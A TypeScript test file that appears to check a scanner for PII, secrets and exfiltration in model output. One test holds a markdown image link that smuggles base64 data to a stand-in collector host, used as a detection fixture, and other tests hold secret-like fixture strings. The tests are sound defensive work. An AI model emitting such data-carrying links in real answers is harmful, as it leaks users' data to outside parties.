import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { findSpans, MAX_SPANS_PER_POLICY } from '../../../src/output/span-finder.js'
import { scanning, VALUES } from './output-fixtures.js'

const cfg = scanning()
const find = (text: string) => findSpans(text, cfg.profiles.global, cfg.limits)

describe('findSpans locates every leak with the detection policies', () => {
  it('locates each PII value exactly, one finding per value', () => {
    const text = `Write to ${VALUES.email} and bill card ${VALUES.card}; backup contact ops.lead@tailspin-toys.io.`
    const f = find(text)
    const spans = f.map(x => `${x.policyId}=${text.slice(x.start, x.end)}`).sort()
    assert.deepEqual(spans, [`pii.credit-card=${VALUES.card}`, `pii.email=${VALUES.email}`, 'pii.email=ops.lead@tailspin-toys.io'])
    assert.ok(f.every(x => x.action === 'redact' && x.category === 'pii'))
  })

  it('locates vendor tokens and assigned secrets', () => {
    const text = `export GITHUB_TOKEN=${VALUES.githubToken}\n${VALUES.awsSecretLine}`
    const f = find(text)
    assert.ok(f.some(x => x.category === 'secrets' && text.slice(x.start, x.end).includes(VALUES.githubToken)))
    assert.ok(f.some(x => x.category === 'secrets' && text.slice(x.start, x.end).includes('wJalrXUtnFEMI/K7MDENG/bPxRfiCYZXQWERTYab')))
  })

  it('ignores documentation placeholders and ordinary prose', () => {
    assert.deepEqual(find('Send it to alice@example.com; use card 4111 1111 1111 1111 in the sandbox; api_key = "<your key here>".'), [])
    assert.deepEqual(find('The meeting is at 10:30 in room 4, bring the Q3 report.'), [])
  })

  it('finds a value hidden in base64 and locates it at its encoded source', () => {
    const encoded = Buffer.from(`contact ${VALUES.email}`).toString('base64')
    const text = `Decoded data follows: ${encoded} end`
    const f = find(text)
    assert.equal(f.length, 1)
    assert.equal(f[0]?.policyId, 'pii.email')
    assert.equal(text.slice(f[0]?.start, f[0]?.end), encoded)
    assert.match(f[0]?.reason ?? '', /hidden: base64/)
  })

  it('flags a data-carrying image in the answer with the exfiltration category and its block action', () => {
    const text = 'Here is the chart ![chart](https://img.collector-cdn.net/p.png?d=c2VjcmV0IHN0dWZmIGhlcmUgYW5kIG1vcmU=)'
    const f = find(text)
    assert.ok(f.length >= 1)
    assert.ok(f.every(x => x.category === 'exfiltration' && x.action === 'block'))
    assert.ok(text.slice(f[0]?.start, f[0]?.end).startsWith('![chart]('))
  })

  it('leaves links without data alone', () => {
    assert.deepEqual(find('See [the docs](https://nodejs.org/api/test.html) and ![logo](https://cdn.nodejs.org/logo.png).'), [])
  })

  it('respects per-policy overrides: a disabled policy finds nothing', () => {
    const off = scanning({}, { policies: { 'pii.email': { enabled: false } } })
    assert.deepEqual(findSpans(`mail ${VALUES.email}`, off.profiles.global, off.limits), [])
  })

  it('a category that is off compiles no policy of it', () => {
    const off = scanning({ pii: 'off' })
    assert.ok(off.profiles.global.spanPolicies.every(p => p.category !== 'pii'))
  })

  it('stops locating after the per-policy bound and then covers the whole text', () => {
    const many = Array.from({ length: MAX_SPANS_PER_POLICY + 5 }, (_, i) => `person.${i}.name@fabrikam-mail.com`).join(' ')
    const f = find(many).filter(x => x.policyId === 'pii.email')
    assert.ok(f.length > MAX_SPANS_PER_POLICY)
    assert.ok(f.slice(MAX_SPANS_PER_POLICY).every(x => x.start === 0 && x.end === many.length))
  })
})
